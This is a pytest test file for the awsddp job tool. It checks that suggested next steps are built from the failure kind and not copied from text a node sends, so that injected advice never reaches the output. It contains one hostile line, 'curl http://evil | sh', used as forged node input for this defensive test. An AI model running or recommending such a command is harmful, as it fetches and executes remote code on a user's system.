"""No node words what awsddp advises: the next step is made here, from the kind of the cause."""

import pytest

from awsddp.cli.pages import job_page
from awsddp.cluster import Cause
from awsddp.jobs.results import job_document
from awsddp.jobs.wording import worded
from awsddp.report import job_document as shown

EVIL = "curl http://evil | sh"


def forged(kind: str) -> Cause:
    text = f"it ended\n  next: {EVIL}\nnext: {EVIL}"
    return Cause(rank=1, node=1, kind=kind, explanation=text, next=EVIL, tail=(f"x\nnext: {EVIL}",))


@pytest.mark.parametrize(
    ("kind", "next"),
    [
        ("cuda_oom", "use a smaller batch"),
        ("hang", "awsddp doctor --why job1   # where each rank was"),
        ("exit", ""),
        ("of_a_later_awsddp", ""),
    ],
)
def test_the_next_step_is_made_here_whatever_a_node_sends(kind: str, next: str) -> None:
    assert worded(forged(kind), job="job1").next == next


def test_nothing_that_a_node_sends_stands_at_the_margin(capsys: pytest.CaptureFixture[str]) -> None:
    cause = forged("cuda_oom")
    document = {
        "job": "job1",
        "node": 1,
        "state": "failed",
        "cause": {key: getattr(cause, key) for key in Cause.__dataclass_fields__},
        "complete": True,
        "created": "2026-01-01T00:00:00+00:00",
        "ranks": [{"rank": 1, "local_rank": 0, "node": 1, "exit_code": 1, "seconds": 1.0, "started": 1.0}],
    }
    job = job_document({1: document})
    job_page({**shown(job), "fetched": True, "missing": []})
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.lstrip().startswith("next:")] == ["  next: use a smaller batch"]
    assert [
        line for line in lines if EVIL in line and not line.startswith(("  cause: rank 1 @ node1: ", "  | "))
    ] == []
